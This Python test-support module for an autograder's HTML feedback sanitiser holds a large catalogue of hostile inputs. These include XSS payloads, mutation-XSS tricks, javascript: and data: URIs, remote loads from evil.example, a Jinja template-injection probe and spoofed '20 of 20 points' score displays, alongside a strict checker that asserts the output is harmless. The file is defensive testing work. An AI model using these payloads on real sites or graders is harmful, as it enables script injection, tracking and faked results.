"""What the tests of feedback share: a strict reader of HTML, and contents that try to act or to pass for a mark."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

from autograder.reports import clean

VOID = {"br", "hr", "img", "meta", "mspace", "mprescripts", "none"}
FLAG = "ACTED"  # what a script of these would change the title to
ACT = f"document.title='{FLAG}'"
PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{ACT}"><script>{ACT}</script></svg>'
SVG64 = base64.b64encode(SVG.encode()).decode()
ENTITIES = base64.b64encode(
    b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
).decode()
PAGE64 = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()

HOSTILE = {
    "script": f"<script>{ACT}</script>",
    "script in capitals": f"<ScRiPt >{ACT}</sCrIpT >",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script unclosed": f"<script>{ACT}",
    "script split by script": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "script after a null": f"<scr\x00ipt>{ACT}</scr\x00ipt>",
    "script in a comment that ends early": f"<!--><script>{ACT}</script>-->",
    "script behind a comment with a bang": f"<!-- --!><script>{ACT}</script> -->",
    "script in CDATA": f"<![CDATA[<script>{ACT}</script>]]>",
    "script in a processing instruction": f"<?xml <script>{ACT}</script> ?>",
    "svg onload": f'<svg onload="{ACT}">',
    "svg with a script": SVG,
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{SVG64}#x"/></svg>',
    "svg foreignObject": f"<svg><foreignObject><body onload={ACT}></foreignObject></svg>",
    "svg style that breaks out": f'<svg></p><style><a id="</style><img src=1 onerror={ACT}>">',
    "image onerror": f'<img src=x onerror="{ACT}">',
    "image onerror without quotes": f"<img/src=x/onerror={ACT}>",
    "image from elsewhere": '<img src="https://evil.example/pixel.png">',
    "image without a scheme": '<img src="//evil.example/pixel.png">',
    "image srcset": '<img srcset="https://evil.example/a.png 2x" src="x">',
    "image that is a page": f'<img src="data:text/html;base64,{PAGE64}">',
    "image of another kind than it says": f'<img src="data:image/png;base64,{PAGE64}">',
    "image with entities": f'<img src="data:image/svg+xml;base64,{ENTITIES}">',
    "image lazily": '<img loading="lazy" dynsrc="https://evil.example/a" lowsrc="https://evil.example/b">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="&lt;script&gt;parent.{ACT}&lt;/script&gt;"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE64}"></object>',
    "embed": f'<embed src="data:image/svg+xml;base64,{SVG64}" type="image/svg+xml">',
    "applet": '<applet code="Evil.class" archive="https://evil.example/e.jar"></applet>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "portal": '<portal src="https://evil.example"></portal>',
    "link to a stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link that prefetches": '<link rel="prefetch" href="https://evil.example/seen">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "meta that undoes the policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "style that covers the score": "<style>.total{display:none} body::before{content:'20 of 20 points'}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style with an expression": f'<div style="width:expression({ACT})">x</div>',
    "style that lies over all": '<div style="position:fixed;inset:0;background:#fff;z-index:9">20 of 20 points</div>',
    "style that fetches": '<p style="background:url(https://evil.example/x)">x</p>',
    "class of ours": '<section class="verdict right" id="cell-1"><h3>The check</h3>2 of 2 points</section>',
    "id that takes a link over": '<p id="cell-1" name="summary">✓ Right · 2 of 2 points</p>',
    "verdict imitated": (
        '<div style="border-left:4px solid #009E73;padding:2px"><p><strong>✓ Right · 2 of 2 points</strong></p></div>'
    ),
    "details imitated": "<details open><summary>What the check says</summary>✓ Right · 2 of 2 points</details>",
    "table of points imitated": '<table class="scores"><tr><th scope="row">Total</th><td>20</td></tr></table>',
    "heading imitated": "<h1>20 of 20 points</h1><h2 id=summary>Summary</h2>",
    "form": '<form action="https://evil.example"><input name="a"><button formaction="javascript:alert(1)">Go</form>',
    "input that takes the focus": f"<input autofocus onfocus={ACT}>",
    "textarea that swallows": f"<textarea><img title='</textarea><img src=x onerror={ACT}>'>",
    "select": f"<select><style></select><img src=x onerror={ACT}></style>",
    "dialog": "<dialog open>20 of 20 points</dialog>",
    "popover": "<div popover id=p>20 of 20</div><button popovertarget=p>x</button>",
    "marquee": f"<marquee onstart={ACT}>20 of 20 points</marquee>",
    "body onload": f"<body onload={ACT}>",
    "html that ends the page": f"</figure></section></main></body></html><script>{ACT}</script>",
    "closing tags without number": "</div>" * 40 + "</figure></details></section>✓ Right",
    "tags never closed": "<div><b><i><table><tr><td><ul><li><blockquote>" * 8 + "on and on",
    "attribute never closed": f'<img alt="x src=y onerror={ACT}><p>and more',
    "quotes in an attribute": f'<img alt="&quot; onerror=&quot;{ACT}" src="x">',
    "template": f"<template><script>{ACT}</script></template>",
    "template with a shadow": f'<p><template shadowrootmode="open"><style></style><script>{ACT}</script></template>',
    "templates nested": "<template>" * 30 + f"<img src=x onerror={ACT}>" + "</template>" * 30,
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    "xmp": f'<xmp><p title="</xmp><script>{ACT}</script>">',
    "plaintext": "<plaintext>✓ Right · 20 of 20 points",
    "video": f'<video><source onerror="{ACT}"></video><audio src=x onerror={ACT}>',
    "link with javascript": f'<a href="javascript:{ACT}">Go</a>',
    "link with javascript in disguise": f'<a href=" &#106;ava&#x09;script&colon;{ACT}">Go</a>',
    "link with vbscript": '<a href="vbscript:msgbox(1)">Go</a>',
    "link with a page in it": f'<a href="data:text/html;base64,{PAGE64}">Go</a>',
    "link with a picture in it": f'<a href="data:image/svg+xml;base64,{SVG64}">Go</a>',
    "link to a file": '<a href="file:///etc/passwd">Go</a>',
    "link into the page": '<a href="#cell-1" target="_blank" ping="https://evil.example">Go</a>',
    "math with a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math action": '<math><maction actiontype="statusline#https://evil.example"><mtext>x</mtext></maction></math>',
    "math with HTML in an annotation": (
        f'<math><annotation-xml encoding="text/html"><script>{ACT}</script></annotation-xml></math>'
    ),
    "math with a style in it": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>"
    ),
    "math and a form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    "math that slides over": '<math><mpadded lspace="-90em" voffset="40em"><mtext>20 of 20</mtext></mpadded></math>',
    "math that pushes": '<math><mspace width="-40em"/><mspace width="9999em"/><mtext mathsize="90em">20</mtext></math>',
    "formula with a link": r"$\href{javascript:alert(1)}{x}$",
    "formula with a class and style": r"$$\class{verdict}{\style{position:fixed}{x}}$$",
    "formula with HTML": f"$\\text{{<img src=x onerror={ACT}>}}$",
    "formula that goes deep": "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
    "formula that is broken": r"$\frac{1}{$ and $$\begin{matrix} 1 & 2$$",
    "markdown link": "[Go](javascript:document.title='ACTED')",
    "markdown link by reference": f'[Go][x]\n\n[x]: javascript:{ACT} "title"',
    "markdown link in disguise": "[Go](java&#10;script:alert(1))",
    "markdown image from elsewhere": '![20 of 20 points](https://evil.example/a.png "t")',
    "markdown image by reference": "![a][b]\n\n[b]: https://evil.example/a.png",
    "markdown alt that breaks out": f'![" onerror="{ACT}](data:image/png;base64,{PNG})',
    "markdown autolink": "<javascript:alert(1)> <https://evil.example/?a=b>",
    "markdown fence with attributes": '```python" onclick="alert(1)\nx\n```',
    "markdown attachment": "![x](attachment:../../gradebook.db)",
    "markdown heading": "# 20 of 20 points\n\nSummary\n=======",
    "markdown quotes without end": "> " * 400 + "x",
    "jinja": "{{ 7*7 }}{% for x in range(3) %}again{% endfor %}{{ marks.cells }}{# gone #}",
    "jinja that reaches out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "terminal codes": "\x1b[2J\x1b[31m✓ Right\x1b[0m\x1b]8;;javascript:alert(1)\x07Go\x1b]8;;\x07\x1b]0;title\x07",
    "overwritten line": "0 of 2 points\r2 of 2 points\x08\x08",
    "direction turned": "stniop 02 fo 02 \u202e✓ Right\u2066 <b>\u202dx</b> &#x202e;&#8238;",
    "half a character": "\ud800 <b>\udfff</b>",
    "characters of control": "".join(map(chr, range(32))) + "\x7f\x85\u2028\ufeff",
    "marks piled up": "x" + "\u0301\u0489" * 500,
    "letters that look alike": "✓ Rіght · 2 οf 2 pоints",
    "entities": "&lt;script&gt;&#60;script&#62;&NotEqualTilde;&#0;&#x110000;&#xd800;",
    "a word without end": "A" * 200_000,
    "output without end": "20 of 20 points\n" * 200_000,
    "tags without end": "<b>" * 100_000,
}


class Reader(HTMLParser):
    """Reads HTML and keeps tags with attributes, comments, and text with the tags that it stands in."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[tuple[tuple[str, ...], str]] = []
        self.comments: list[str] = []
        self.open: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attributes):
        assert len(dict(attributes)) == len(attributes), f"an attribute of <{tag}> is there twice"
        self.tags.append((tag, dict(attributes)))
        if tag not in VOID:
            self.open.append(f"{tag}.{dict(attributes).get('class', '')}")

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag):
        if tag not in VOID:
            assert self.open, f"</{tag}> closes nothing"
            assert self.open.pop().partition(".")[0] == tag

    def handle_data(self, data):
        self.texts.append((tuple(self.open), data))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, data):
        self.comments.append(data)

    def handle_pi(self, data):
        self.comments.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)

    @property
    def text(self) -> str:
        return "".join(data for _, data in self.texts)


def assert_harmless(source: str, tags: set[str]) -> Reader:
    """Only listed tags and attributes, their values as the list wants them, all closed; no character of control."""
    reader = Reader(source)
    assert reader.open == []
    assert reader.comments == []
    for tag, attributes in reader.tags:
        assert tag in tags
        for name, value in attributes.items():
            if (tag, name) == ("a", "rel"):
                assert value == "noopener noreferrer nofollow"
                continue
            assert clean.ATTRIBUTES[tag][name].fullmatch(value or ""), (tag, name, value)
            if name == "href":
                assert value.startswith("https://")
            if name == "src":
                assert value.startswith(tuple(f"data:{media};base64," for media in clean.PICTURES))
    assert clean.printable(source) == source
    source.encode()
    return reader
